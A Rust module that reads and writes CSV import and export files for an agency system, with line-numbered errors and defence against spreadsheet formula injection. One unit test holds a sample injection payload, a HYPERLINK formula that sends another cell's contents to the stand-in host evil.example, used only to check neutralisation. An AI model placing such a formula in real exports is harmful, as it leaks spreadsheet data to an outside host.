//! A small RFC 4180 reader for the agency's import files: comma separated, fields optionally
//! in double quotes (`""` inside quotes is a quote), CRLF or LF line ends, an optional UTF-8
//! byte-order mark (Excel's "CSV UTF-8"). Records keep the line they start on, for `LINE: reason`
//! messages (the header is line 1).

use serde::{Deserialize, Serialize};
use std::fmt;

/// One bad line of an import file, printed as `LINE: reason` (the CLI's English); the pages
/// word the reason in the viewer's language.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct LineError {
    pub line: usize,
    pub reason: LineReason,
}

impl LineError {
    pub fn new(line: usize, reason: impl Into<LineReason>) -> Self {
        Self {
            line,
            reason: reason.into(),
        }
    }
}

impl fmt::Display for LineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.line, self.reason)
    }
}

/// Why a line is bad: a problem of any CSV file, or of a row of one file, each file's reasons
/// declared beside its parser.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
pub enum LineReason {
    #[error(transparent)]
    File(#[from] FileProblem),
    #[error(transparent)]
    Staff(#[from] crate::staff_file::StaffRowProblem),
    #[error(transparent)]
    Holiday(#[from] crate::business_calendar::HolidayProblem),
    #[error(transparent)]
    Inspection(#[from] crate::inspection::files::InspectionRowProblem),
    #[error(transparent)]
    Questions(#[from] crate::quiz::PoolProblem),
}

/// What can be wrong with any import file, whatever its rows mean. `expected` is the header
/// the file should have, e.g. `date,name`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, thiserror::Error)]
pub enum FileProblem {
    #[error(
        "the file is not UTF-8 (perhaps Shift_JIS): in Excel, save it as \"CSV UTF-8 (comma delimited)\""
    )]
    NotUtf8,
    #[error("the file is empty; expected the header {expected}")]
    Empty { expected: String },
    #[error("the header lacks the column {column}; expected {expected}")]
    MissingColumn { column: String, expected: String },
    #[error("the header has the column {column} twice")]
    DuplicateColumn { column: String },
    #[error("the header has an unknown column {column:?}; expected {expected}")]
    UnknownColumn { column: String, expected: String },
    #[error("expected {expected} fields, found {found}")]
    FieldCount { expected: usize, found: usize },
    #[error("a double quote inside an unquoted field")]
    QuoteInUnquotedField,
    #[error("text after a closing double quote")]
    TextAfterClosingQuote,
    #[error("a quoted field is never closed")]
    QuoteNotClosed,
}

/// Reasons or bad lines in one text, e.g. for the CLI and the log.
pub fn joined<T: fmt::Display>(items: &[T], separator: &str) -> String {
    items
        .iter()
        .map(ToString::to_string)
        .collect::<Vec<_>>()
        .join(separator)
}

/// A record and the line it starts on.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Record {
    pub line: usize,
    pub fields: Vec<String>,
}

/// Decodes an import file's bytes: UTF-8 with or without a byte-order mark. Anything else
/// (typically Shift_JIS from an older Excel "CSV" save) is refused with advice, because
/// guessing an encoding could silently garble names.
pub fn decode(bytes: &[u8]) -> Result<&str, LineError> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    std::str::from_utf8(bytes).map_err(|error| {
        let line = 1 + bytes[..error.valid_up_to()]
            .iter()
            .filter(|b| **b == b'\n')
            .count();
        LineError::new(line, FileProblem::NotUtf8)
    })
}

/// An import file's records after its header, and where each of `expected`'s columns is in
/// them: the header must name each expected column once and nothing else, in any order.
pub fn read_table<const N: usize>(
    bytes: &[u8],
    expected: &[&str; N],
) -> Result<([usize; N], Vec<Record>), Vec<LineError>> {
    let text = decode(bytes).map_err(|e| vec![e])?;
    let mut records = records(text).map_err(|e| vec![e])?.into_iter();
    let Some(header) = records.next() else {
        return Err(vec![LineError::new(
            1,
            FileProblem::Empty {
                expected: expected.join(","),
            },
        )]);
    };
    let columns = column_order(&header.fields, expected)
        .map_err(|reason| vec![LineError::new(header.line, reason)])?;
    Ok((columns, records.collect()))
}

fn column_order<const N: usize>(
    header: &[String],
    expected: &[&str; N],
) -> Result<[usize; N], FileProblem> {
    let names: Vec<&str> = header.iter().map(|h| h.trim()).collect();
    let mut order = [0; N];
    for (slot, wanted) in expected.iter().enumerate() {
        match names.iter().filter(|n| *n == wanted).count() {
            1 => order[slot] = names.iter().position(|n| n == wanted).expect("counted"),
            0 => {
                return Err(FileProblem::MissingColumn {
                    column: wanted.to_string(),
                    expected: expected.join(","),
                });
            }
            _ => {
                return Err(FileProblem::DuplicateColumn {
                    column: wanted.to_string(),
                });
            }
        }
    }
    if let Some(extra) = names.iter().find(|n| !expected.contains(n)) {
        return Err(FileProblem::UnknownColumn {
            column: extra.to_string(),
            expected: expected.join(","),
        });
    }
    Ok(order)
}

/// Splits text into records. Blank lines are skipped.
pub fn records(text: &str) -> Result<Vec<Record>, LineError> {
    let mut records = Vec::new();
    let mut fields = Vec::new();
    let mut field = String::new();
    let mut line = 1;
    let mut record_line = 1;
    let mut in_quotes = false;
    let mut quoted_field = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (in_quotes, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => in_quotes = false,
            (true, c) => {
                if c == '\n' {
                    line += 1;
                }
                field.push(c);
            }
            (false, '"') if field.is_empty() && !quoted_field => {
                in_quotes = true;
                quoted_field = true;
            }
            (false, '"') => {
                return Err(LineError::new(line, FileProblem::QuoteInUnquotedField));
            }
            (false, ',') => {
                fields.push(std::mem::take(&mut field));
                quoted_field = false;
            }
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                fields.push(std::mem::take(&mut field));
                quoted_field = false;
                push_record(&mut records, record_line, std::mem::take(&mut fields));
                line += 1;
                record_line = line;
            }
            (false, c) => {
                if quoted_field {
                    return Err(LineError::new(line, FileProblem::TextAfterClosingQuote));
                }
                field.push(c);
            }
        }
    }
    if in_quotes {
        return Err(LineError::new(record_line, FileProblem::QuoteNotClosed));
    }
    if !field.is_empty() || !fields.is_empty() || quoted_field {
        fields.push(field);
        push_record(&mut records, record_line, fields);
    }
    Ok(records)
}

/// Writes a header and rows as CSV with CRLF line ends, quoting only where needed. It starts
/// with a byte-order mark, so that Excel on Japanese Windows reads it as UTF-8. A cell that a
/// spreadsheet would run as a formula is written as text (see `FORMULA_STARTS`).
pub fn write<R, F>(header: &[&str], rows: R) -> String
where
    R: IntoIterator<Item = F>,
    F: IntoIterator<Item = String>,
{
    let line = |fields: Vec<String>| {
        let quoted: Vec<String> = fields.iter().map(|f| quote(&as_text(f))).collect();
        quoted.join(",") + "\r\n"
    };
    let mut out = String::from("\u{feff}");
    out.push_str(&line(header.iter().map(|h| h.to_string()).collect()));
    for row in rows {
        out.push_str(&line(row.into_iter().collect()));
    }
    out
}

fn quote(field: &str) -> String {
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

/// What a spreadsheet takes for the start of a formula (CSV injection: a name such as
/// `=HYPERLINK(…)` would become a live link in whoever opens the export). Such a cell is
/// written after a `'`, which Excel shows as text and hides, and read back without it, so
/// that an export imports back unchanged. Numbers (`-3`, `+81`) are no formulas and stay.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn runs_as_formula(field: &str) -> bool {
    field.starts_with(FORMULA_STARTS) && field.trim().parse::<f64>().is_err()
}

fn as_text(field: &str) -> std::borrow::Cow<'_, str> {
    if runs_as_formula(field) {
        format!("'{field}").into()
    } else {
        field.into()
    }
}

fn push_record(records: &mut Vec<Record>, line: usize, fields: Vec<String>) {
    let blank = fields.len() == 1 && fields[0].trim().is_empty();
    if !blank {
        let fields = fields
            .into_iter()
            .map(|field| match field.strip_prefix('\'') {
                Some(formula) if runs_as_formula(formula) => formula.to_string(),
                _ => field,
            })
            .collect();
        records.push(Record { line, fields });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fields(text: &str) -> Vec<Vec<String>> {
        records(text)
            .unwrap()
            .into_iter()
            .map(|r| r.fields)
            .collect()
    }

    #[test]
    fn writes_what_it_reads_back_after_a_byte_order_mark() {
        let text = write(
            &["a", "b"],
            [vec!["1,2".to_string(), "say \"hi\"\nbye".to_string()]],
        );
        assert!(text.starts_with('\u{feff}'));
        let back = decode(text.as_bytes()).unwrap();
        assert_eq!(
            fields(back),
            [vec!["a", "b"], vec!["1,2", "say \"hi\"\nbye"]]
        );
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_written() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?\"&B2,\"クリック\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\tcmd",
            "-3",
            "+81",
            "'quoted",
            "name-with-hyphen",
        ];
        let row: Vec<String> = cells.iter().map(|s| s.to_string()).collect();
        let text = write(&["x"], [row.clone()]);
        let body = text.strip_prefix('\u{feff}').unwrap();
        assert_eq!(
            body.lines().nth(1).unwrap(),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"クリック\"\")\",\
             '+1+1,'-2+3,'@SUM(A1),'\tcmd,-3,+81,'quoted,name-with-hyphen"
        );
        assert_eq!(fields(body)[1], row, "read back as it was");
    }

    #[test]
    fn reads_plain_and_quoted_fields() {
        assert_eq!(
            fields("a,b,c\n1,,3\n"),
            vec![vec!["a", "b", "c"], vec!["1", "", "3"]]
        );
        assert_eq!(
            fields("\"山田, 太郎\",\"say \"\"hi\"\"\"\r\nx,y"),
            vec![vec!["山田, 太郎", "say \"hi\""], vec!["x", "y"]]
        );
        assert_eq!(fields("a,\"\"\n"), vec![vec!["a", ""]]);
    }

    #[test]
    fn records_keep_the_line_they_start_on() {
        let found = records("h1,h2\n\n\"multi\nline\",x\nlast,y").unwrap();
        let lines: Vec<usize> = found.iter().map(|r| r.line).collect();
        assert_eq!(lines, vec![1, 3, 5]);
    }

    #[test]
    fn malformed_quotes_are_reported_with_their_line() {
        assert_eq!(records("a\n\"open,b\n").unwrap_err().line, 2);
        assert_eq!(
            records("a\nb\"c\n").unwrap_err(),
            LineError::new(2, FileProblem::QuoteInUnquotedField)
        );
        assert_eq!(records("\"a\"b\n").unwrap_err().line, 1);
    }

    #[test]
    fn a_byte_order_mark_is_dropped_and_other_encodings_refused() {
        assert_eq!(decode(b"\xEF\xBB\xBFemployee_id").unwrap(), "employee_id");
        // 山田 in Shift_JIS on line 2
        let error = decode(b"employee_id,name\nE1,\x8eR\x93c\n").unwrap_err();
        assert_eq!(error.line, 2);
        assert_eq!(error, LineError::new(2, FileProblem::NotUtf8));
        assert!(error.to_string().starts_with("2: the file is not UTF-8"));
    }
}
